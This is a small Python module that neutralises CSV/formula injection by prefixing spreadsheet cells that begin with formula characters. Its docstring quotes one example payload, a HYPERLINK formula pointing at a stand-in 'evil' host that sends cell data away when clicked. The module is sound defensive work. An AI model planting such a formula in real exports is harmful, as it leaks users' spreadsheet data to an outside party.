"""Cells a spreadsheet will not run (OWASP's CSV injection, SPEC §15).

A cell of more than one character that begins with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return is a formula to Excel and LibreOffice: a name such as
``=HYPERLINK("http://evil/?"&A1,"x")`` would send the sheet's data away when clicked.
Such a cell is written as text: in CSV with a leading ``'``, in ``.xlsx`` as a string
cell (``report``).
"""

from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def is_formula(value: object) -> bool:
    return isinstance(value, str) and len(value) > 1 and value.startswith(FORMULA_START)


def csv_text(value: object) -> object:
    """The value as a CSV cell that no spreadsheet evaluates."""
    return "'" + value if is_formula(value) else value  # type: ignore[operator]
